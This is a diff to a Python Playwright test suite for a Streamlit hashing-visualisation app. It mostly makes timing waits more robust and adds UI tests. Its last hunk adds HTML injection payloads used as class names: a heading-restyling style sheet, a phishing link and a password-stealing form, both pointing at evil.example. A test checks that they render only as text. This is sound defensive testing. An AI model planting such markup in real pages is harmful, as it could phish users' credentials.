@@ -60,13 +60,16 @@ def _streamlit(home: Path, *args: str, umap: bool = True):
                             cwd=ROOT, env=env, stdout=log, stderr=subprocess.STDOUT)
     url = f"http://127.0.0.1:{port}"
     try:
-        for _ in range(300):
+        deadline = time.perf_counter() + 180  # a generous deadline: the server imports torch on a loaded machine
+        while True:
             try:
                 urllib.request.urlopen(url + "/_stcore/health", timeout=1)
                 break
             except OSError:
                 if proc.poll() is not None:
                     pytest.fail(f"streamlit exited: {log_path.read_text()[-2000:]}")
+                if time.perf_counter() > deadline:
+                    pytest.fail(f"streamlit did not answer within 180 s: {log_path.read_text()[-2000:]}")
                 time.sleep(0.2)
         TIMINGS.setdefault("server_start_s", time.perf_counter() - t0)
         yield url
@@ -97,13 +100,19 @@ def run_key(filled_home) -> str:
 
 
 @pytest.fixture(scope="module")
-def browser(server):
+def chromium():
     from playwright.sync_api import sync_playwright
 
+    _need_chromium()
     with sync_playwright() as p:
         b = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
         yield b
         b.close()
+
+
+@pytest.fixture(scope="module")
+def browser(server, chromium):
+    return chromium
 
 
 @pytest.fixture
@@ -148,7 +157,6 @@ def idle(pg, timeout: float = 90_000) -> None:
         const w = document.querySelector('[data-testid="stStatusWidget"]');
         return !(w && /running/i.test(w.innerText));
     }""", timeout=timeout)
-    pg.wait_for_timeout(300)
 
 
 def shot(pg, name: str, height: int = 1800) -> None:
@@ -156,7 +164,8 @@ def shot(pg, name: str, height: int = 1800) -> None:
     SHOTS.mkdir(parents=True, exist_ok=True)
     size = pg.viewport_size
     pg.set_viewport_size({"width": size["width"], "height": height})
-    pg.wait_for_timeout(800)
+    idle(pg)  # the resize reflows the page; Streamlit redraws charts to the new width
+    pg.wait_for_function("() => document.fonts.status === 'loaded'")
     pg.screenshot(path=str(SHOTS / f"{name}.png"))
     assert (SHOTS / f"{name}.png").stat().st_size > 10_000  # a real page, not a blank frame
     pg.set_viewport_size(size)
@@ -165,6 +174,21 @@ def shot(pg, name: str, height: int = 1800) -> None:
 def caption_number(pg, pattern: str) -> int | None:
     m = re.search(pattern, pg.inner_text("body"))
     return int(m.group(1)) if m else None
+
+
+def wait_until(condition, what: str, timeout: float = 90.0, every: float = 0.1, pg=None):
+    """Poll ``condition()`` until it returns a truthy value (returned) or ``timeout`` seconds pass (fail)."""
+    deadline = time.perf_counter() + timeout
+    while True:
+        value = condition()
+        if value:
+            return value
+        if time.perf_counter() > deadline:
+            pytest.fail(f"waited {timeout:.0f} s for {what}")
+        if pg is not None:
+            pg.wait_for_timeout(every * 1000)
+        else:
+            time.sleep(every)
 
 
 def test_first_page_and_data_screenshot(server, page):
@@ -177,6 +201,32 @@ def test_first_page_and_data_screenshot(server, page):
     shot(page, "1_data")
 
 
+def test_playground_slider_turns_the_toy_and_the_animation_plays(server, page):
+    """The toy answers the hand slider (codes and error change) and HQ's animation plays to its last step."""
+    page.goto(server + "/playground")
+    page.get_by_text("Where the learned rotations land").wait_for()
+    idle(page)
+    error = page.locator('[data-testid="stMetricValue"]').first
+    before = error.inner_text()
+    angle = page.locator('[data-testid="stSlider"]').filter(has_text="Rotation angle").locator('input[type="range"]')
+    angle.focus()
+    for _ in range(30):
+        page.keyboard.press("ArrowLeft")
+    page.locator(".gtitle").filter(has_text="θ = -30.0°").wait_for()
+    page.wait_for_function("(b) => document.querySelector('[data-testid=stMetricValue]').innerText !== b", arg=before)
+    idle(page)
+    assert float(error.inner_text()) < float(before)
+    page.locator(".updatemenu-button").filter(has_text="play").first.click()
+    page.locator(".gtitle").filter(has_text="HQ: step 200 ·").wait_for()      # the last frame: the learned R
+    page.locator("h1").first.scroll_into_view_if_needed()
+    shot(page, "0_playground", height=2700)
+    page.goto(server + "/playground?toy_bits=3")
+    page.get_by_text("Where the learned rotations land").wait_for()
+    page.get_by_text("yaw: about z").wait_for()
+    idle(page)
+    shot(page, "0_playground_3d", height=2500)
+
+
 def test_live_rotation_curve_grows_and_other_sessions_are_undisturbed(server, page, browser):
     page.goto(server + "/rotation?bits=16")
     page.get_by_role("button", name="Start").wait_for()
@@ -187,22 +237,31 @@ def test_live_rotation_curve_grows_and_other_sessions_are_undisturbed(server, pa
     assert steps.input_value() == "50000"
     page.get_by_role("button", name="Start").click()
     page.get_by_text(re.compile(r"Curve rows: \d+")).wait_for()  # the first tick (torch may still be loading)
+    # the chart updates: at least three different curve lengths, counted over at least 5 s (for the rate);
+    # generous deadline, since a loaded machine may give the server only part of a core
     seen, t0 = [], time.perf_counter()
-    while time.perf_counter() - t0 < 20 and (len(seen) < 6 or time.perf_counter() - t0 < 5):
+
+    def grew() -> bool:
         n = caption_number(page, r"Curve rows: (\d+)")
         if n is not None and (not seen or n != seen[-1]):
             seen.append(n)
-        page.wait_for_timeout(50)
-    assert len(seen) >= 3 and seen == sorted(seen) and seen[-1] > seen[0], seen
-    first = page.evaluate(LAST_STEP_JS)
-    assert first > 0, first
-    # the plotted curve itself grows, not only the caption
-    page.wait_for_function(f"() => ({LAST_STEP_JS})() > {first}", timeout=10_000)
+        return len(seen) >= 6 or (len(seen) >= 3 and time.perf_counter() - t0 >= 5)
+
+    wait_until(grew, "the live chart to update", timeout=90, every=0.05, pg=page)
+    assert seen == sorted(seen) and seen[-1] > seen[0], seen
     TIMINGS["chart_updates_per_s"] = (len(seen) - 1) / (time.perf_counter() - t0)
+    # the plotted curve itself grows, not only the caption
+    page.wait_for_function(f"() => ({LAST_STEP_JS})() > 0")
+    first = page.evaluate(LAST_STEP_JS)
+    page.wait_for_function(f"() => ({LAST_STEP_JS})() > {first}")
     sps = re.search(r"steps/s\s*(\d+)", page.inner_text("body"))
     TIMINGS["steps_per_s"] = float(sps.group(1)) if sps else float("nan")
+    # share it with every session viewing the run (the Queries test below opens another browser context)
+    page.get_by_text("Share with every session viewing this run").click()
+    page.get_by_text("· shared").wait_for()
     # a second browser session: its own state, the first one's fit keeps running
     other = browser.new_context(viewport={"width": 1400, "height": 1000}).new_page()
+    other.set_default_timeout(90_000)
     other.goto(server + "/rotation?bits=16")
     other.get_by_role("button", name="Start").wait_for()
     idle(other)
@@ -210,11 +269,8 @@ def test_live_rotation_curve_grows_and_other_sessions_are_undisturbed(server, pa
     before = caption_number(page, r"Curve rows: (\d+)")
     # the first session keeps training: its curve grows again (patiently: the second session's first page load
     # competes for the 2 cores, and a page in another window may have its timers throttled)
-    t1, after = time.perf_counter(), before
-    while after <= before and time.perf_counter() - t1 < 15:
-        page.wait_for_timeout(250)
-        after = caption_number(page, r"Curve rows: (\d+)")
-    assert after > before, (before, after)
+    wait_until(lambda: (caption_number(page, r"Curve rows: (\d+)") or 0) > before,
+               "the first session's curve to grow while a second session is open", timeout=60, every=0.25, pg=page)
     other.context.close()
     shot(page, "2_rotation")
     main = page.get_by_test_id("stMainBlockContainer")
@@ -238,9 +294,9 @@ def test_queries_page(server, page, run_key):
     page.get_by_text("32 bits", exact=True).wait_for()
     idle(page)
     page.wait_for_function("() => document.querySelectorAll('.hv-grid img').length >= 1 + 8 * 3 * 2")
-    # the query + k × (sign, ITQ, HQ) × 2 bit lengths + k for the live fit of the rotation test (16 bits)
+    # the query + k × (sign, ITQ, HQ) × 2 bit lengths + k for the live fit the rotation test shared (16 bits)
     assert page.locator(".hv-grid img").count() == 1 + 8 * 3 * 2 + 8
-    assert page.get_by_text(re.compile(r"live HQ-l2 · AP")).count() == 1
+    assert page.get_by_text(re.compile(r"live HQ-l2 .*\(shared\) · AP")).count() == 1
     marks = page.locator(".hv-grid figcaption").all_inner_texts()
     assert sum(m.startswith(("✓", "✗")) for m in marks) == 8 * 3 * 2 + 8  # every result carries its mark
     assert readable(page, ".hv-grid figcaption", 4.5)["background"] > 0.8  # light theme: dark text on white
@@ -251,32 +307,41 @@ def test_lasso_on_the_codes_map_fills_the_grid(server, page, run_key):
     page.goto(server + f"/embeddings?run={run_key}&bits=16")
     page.get_by_text("Draw a lasso").wait_for()
     # UMAP runs in a background process (PCA meanwhile); lasso on the final maps, so no redraw interferes
-    deadline, calm = time.perf_counter() + 120, 0
-    while calm < 3 and time.perf_counter() < deadline:  # absent three checks in a row: no rerun pending
-        page.wait_for_timeout(1000)
-        calm = 0 if "UMAP computing" in page.inner_text("body") else calm + 1
-    TIMINGS["umap_ready"] = float(calm >= 3)
+    wait_until(lambda: "UMAP computing" not in page.inner_text("body"), "the UMAP maps", timeout=180, every=1,
+               pg=page)
+    TIMINGS["umap_ready"] = 1.0
     idle(page)
     plots = page.locator(".js-plotly-plot")
-    box = None
-    for _ in range(40):  # the maps may be redrawn once more when the last UMAP lands
+
+    def lasso() -> float:
+        """One lasso over the middle of the codes map; returns when it was released."""
         plots.nth(1).wait_for()
         plots.nth(1).scroll_into_view_if_needed()
-        box = plots.nth(1).locator(".nsewdrag").first.bounding_box()
-        if box is not None:
+        box = wait_until(lambda: plots.nth(1).locator(".nsewdrag").first.bounding_box(), "the codes map",
+                         timeout=60, every=0.5, pg=page)
+        cx, cy, w, h = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, box["width"], box["height"]
+        pts = [(cx - 0.35 * w, cy - 0.35 * h), (cx + 0.35 * w, cy - 0.35 * h), (cx + 0.35 * w, cy + 0.35 * h),
+               (cx - 0.35 * w, cy + 0.35 * h), (cx - 0.35 * w, cy - 0.3 * h)]
+        page.mouse.move(*pts[0])
+        page.mouse.down()
+        for x, y in pts[1:]:
+            page.mouse.move(x, y, steps=8)
+        t = time.perf_counter()
+        page.mouse.up()
+        return t
+
+    # a redraw landing during the gesture (the last UMAP, a slow rerun) cancels it: draw it again, up to a
+    # generous deadline, until the selection arrives
+    deadline = time.perf_counter() + 180
+    while True:
+        t = lasso()
+        try:
+            page.get_by_text(re.compile(r"\d+ selected")).wait_for(timeout=20_000)
             break
-        page.wait_for_timeout(500)
-    assert box is not None, "the codes map did not render"
-    cx, cy, w, h = box["x"] + box["width"] / 2, box["y"] + box["height"] / 2, box["width"], box["height"]
-    pts = [(cx - 0.35 * w, cy - 0.35 * h), (cx + 0.35 * w, cy - 0.35 * h), (cx + 0.35 * w, cy + 0.35 * h),
-           (cx - 0.35 * w, cy + 0.35 * h), (cx - 0.35 * w, cy - 0.3 * h)]
-    page.mouse.move(*pts[0])
-    page.mouse.down()
-    for x, y in pts[1:]:
-        page.mouse.move(x, y, steps=8)
-    t = time.perf_counter()
-    page.mouse.up()
-    page.get_by_text(re.compile(r"\d+ selected")).wait_for()
+        except Exception:
+            if time.perf_counter() > deadline:
+                raise
+            idle(page)
     page.locator(".hv-grid img").first.wait_for()
     TIMINGS["lasso_to_grid_s"] = time.perf_counter() - t
     n_selected = caption_number(page, r"(\d+) selected")
@@ -407,3 +472,84 @@ def test_dark_theme_keeps_our_html_and_figures_readable(dark_server, browser, ru
         shot(pg, "dark_2_rotation")
     finally:
         ctx.close()
+
+
+# ---- user text is text (issue 9 §1) ---------------------------------------------------------------------------
+HOSTILE = ('<style>h1,h2,h3{color:red!important;font-size:90px!important}</style>S',
+           '<a href="https://evil.example/phish">Session expired, click to log in</a>',
+           '<form action="https://evil.example/steal"><input name="pw"><button>Go</button></form>')
+
+INJECTED_JS = """() => ({
+    links: document.querySelectorAll('a[href*="evil.example"]').length,
+    forms: document.querySelectorAll('form[action*="evil.example"], input[name="pw"]').length,
+    styles: [...document.querySelectorAll('style')].filter(s => s.textContent.includes('90px')).length,
+    h1: getComputedStyle(document.querySelector('h1')).fontSize,
+    h1colour: getComputedStyle(document.querySelector('h1')).color,
+    text: document.body.innerText,
+})"""
+
+
+@pytest.fixture(scope="module")
+def hostile_run(tmp_path_factory):
+    """A home with one uploaded run whose class names are the issue's markup (and thumbnails to show them)."""
+    import io
+
+    import numpy as np
+
+    from hashviz.session.runs import Workspace
+
+    home = tmp_path_factory.mktemp("hostile_browser_home")
+    rng = np.random.default_rng(0)
+    labels = np.arange(150) % 3
+    z = ((rng.standard_normal((3, 16)) * 3)[labels] + rng.standard_normal((150, 16))).astype(np.float32)
+    buf = io.BytesIO()
+    np.savez(buf, z=z, labels=labels, class_names=np.array(HOSTILE),
+             thumbnails=(np.arange(150 * 64) % 255).astype(np.uint8).reshape(150, 8, 8))
+    old = os.environ.get("HASHVIZ_HOME")
+    os.environ["HASHVIZ_HOME"] = str(home)
+    try:
+        key = Workspace(home).import_embeddings(buf.getvalue(), "classes.npz").key
+    finally:
+        if old is None:
+            os.environ.pop("HASHVIZ_HOME", None)
+        else:
+            os.environ["HASHVIZ_HOME"] = old
+    return home, key
+
+
+def test_hostile_class_names_are_shown_as_text_in_the_browser(chromium, hostile_run):
+    """Sample images per class, the map legends of Codes & embeddings and the Queries page, in Chromium: the class
+    names read literally, and the page has no link, form, input or style sheet from them (headings keep their
+    size and colour)."""
+    home, key = hostile_run
+    with _streamlit(home, umap=False) as url:
+        ctx = chromium.new_context(viewport={"width": 1400, "height": 1000})
+        pg = ctx.new_page()
+        pg.set_default_timeout(90_000)
+        try:
+            pg.goto(url + f"/?run={key}")
+            pg.get_by_text("Sample images per class").wait_for()
+            pg.wait_for_function("() => document.querySelectorAll('.hv-grid').length >= 3")  # a row per class
+            found = pg.evaluate(INJECTED_JS)
+            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
+            assert found["h1"] != "90px" and found["h1colour"] != "rgb(255, 0, 0)", found
+            assert all(name in found["text"] for name in HOSTILE), found["text"][:2000]
+
+            pg.goto(url + f"/embeddings?run={key}")
+            pg.locator(".js-plotly-plot .legendtext").first.wait_for()
+            pg.wait_for_function("""(name) => [...document.querySelectorAll('.js-plotly-plot .legendtext')]
+                .some(t => t.textContent === name)""", arg=HOSTILE[1])
+            legend = pg.evaluate("""() => [...document.querySelectorAll('.js-plotly-plot .legendtext')]
+                .map(t => t.textContent)""")
+            assert all(name in legend for name in HOSTILE), legend
+            found = pg.evaluate(INJECTED_JS)
+            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
+            assert pg.evaluate("() => document.querySelectorAll('.js-plotly-plot a').length") == 0
+
+            pg.goto(url + f"/queries?run={key}&mode=class")
+            pg.wait_for_function("() => document.querySelectorAll('.hv-grid img').length >= 2")
+            pg.get_by_text(re.compile(r"class .*(Session expired|font-size|button)")).first.wait_for()
+            found = pg.evaluate(INJECTED_JS)
+            assert (found["links"], found["forms"], found["styles"]) == (0, 0, 0), found
+        finally:
+            ctx.close()
